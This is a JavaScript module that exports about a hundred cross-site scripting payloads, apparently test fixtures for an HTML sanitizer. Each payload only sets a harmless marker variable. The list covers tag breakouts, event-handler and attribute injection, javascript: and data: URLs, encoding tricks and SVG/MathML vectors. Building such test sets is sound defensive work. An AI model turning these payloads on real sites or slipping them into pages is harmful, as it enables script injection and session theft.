// Texts that would run a script, or break out of where they stand, if any page wrote them as markup.
const CALL = 'window.__xss=1';

/** About a hundred payloads, each its own way in. */
export const PAYLOADS = [
  ...[
    '<script>CALL</script>', '<SCRIPT>CALL</SCRIPT>', '</title><script>CALL</script>', '</textarea><script>CALL</script>',
    '</select><script>CALL</script>', '</option></select><img src=x onerror=CALL>', '</script><script>CALL</script>',
    '</style><script>CALL</script>', '</noscript><script>CALL</script>', '</template><script>CALL</script>',
    '<script src="data:text/javascript,CALL"></script>', '<script src=//127.0.0.1:9/x.js></script>',
    '<script type=module>CALL</script>', '<script>/*', '<!--<script>CALL</script>-->', '--><script>CALL</script>', ']]><script>CALL</script>',
    '<scr<script>ipt>CALL</scr</script>ipt>', '<script\n>CALL</script>', '<script/x>CALL</script>', '%3Cscript%3ECALL%3C/script%3E',
    '&lt;script&gt;CALL&lt;/script&gt;', '&#60;script&#62;CALL&#60;/script&#62;', '\\u003cscript\\u003eCALL\\u003c/script\\u003e',
    '＜script＞CALL＜/script＞', '<ſcript>CALL</ſcript>', '+ADw-script+AD4-CALL+ADw-/script+AD4-',
  ],
  ...['img src=x', 'video src=x', 'audio src=x', 'image src=x', 'input type=image src=x', 'object data=x', 'embed src=x', 'link rel=stylesheet href=x']
    .map((tag) => `<${tag} onerror=CALL>`),
  ...['body', 'iframe', 'svg', 'style', 'frameset', 'img src=/favicon.ico', 'link rel=stylesheet href=/']
    .map((tag) => `<${tag} onload=CALL>`),
  ...['input', 'select', 'textarea', 'button', 'a href=#', 'details open', 'div tabindex=1', 'keygen']
    .map((tag) => `<${tag} autofocus onfocus=CALL ontoggle=CALL>`),
  ...['" onfocus=CALL autofocus x="', "' onfocus=CALL autofocus x='", '"><img src=x onerror=CALL>', "'><img src=x onerror=CALL>",
    '` onfocus=CALL autofocus', '"/onmouseover=CALL//', '" style="animation-name:x" onanimationstart="CALL', '" onpointerenter="CALL" x="',
    '"><svg/onload=CALL>', "'-CALL-'", '"-CALL-"', "\\'-CALL//", '\\"-CALL//', '${CALL}', '{{constructor.constructor("CALL")()}}', '#{CALL}',
    '<%= CALL %>', '[[CALL]]', '@{CALL}',
  ],
  ...['javascript:CALL', 'JaVaScRiPt:CALL', 'java\u00adscript:CALL', 'javascript&colon;CALL', ' javascript:CALL', 'vbscript:CALL',
    'data:text/html,<script>CALL</script>', 'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==', '//127.0.0.1:9/CALL',
  ],
  ...['<a href="javascript:CALL">x</a>', '<form action="javascript:CALL"><button>x</button></form>', '<button formaction="javascript:CALL">x</button>',
    '<iframe src="javascript:CALL"></iframe>', '<iframe srcdoc="<script>parent.CALL</script>"></iframe>', '<object data="javascript:CALL"></object>',
    '<embed src="javascript:CALL">', '<meta http-equiv=refresh content="0;url=javascript:CALL">', '<base href="javascript:/a/-CALL//">',
    '<svg><script>CALL</script></svg>', '<svg><script href="data:,CALL" /></svg>', '<svg><animate onbegin=CALL attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:CALL"><text y=20>x</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=CALL></svg>#x"/></svg>',
    '<svg><foreignObject><body onload=CALL></foreignObject></svg>', '<math><mtext><table><mglyph><style><img src=x onerror=CALL>',
    '<math href="javascript:CALL">x</math>', '<table background="javascript:CALL">', '<div style="background:url(javascript:CALL)">',
    '<style>@import "javascript:CALL";</style>', '<style>*{x:expression(CALL)}</style>', '<marquee onstart=CALL>x</marquee>',
    '<template><script>CALL</script></template>', '<noscript><p title="</noscript><img src=x onerror=CALL>">', '<portal src="javascript:CALL">',
    '<isindex type=image src=x onerror=CALL>', '<dialog open onclose=CALL><form method=dialog><button autofocus>x', '<x onclick=CALL>x</x>',
    '<slot onslotchange=CALL>', '<video><source onerror=CALL></video>', '<img srcset=x onerror=CALL>', '<img src="x` `<script>CALL</script>"` `>',
  ],
].map((payload) => payload.replaceAll('CALL', CALL));
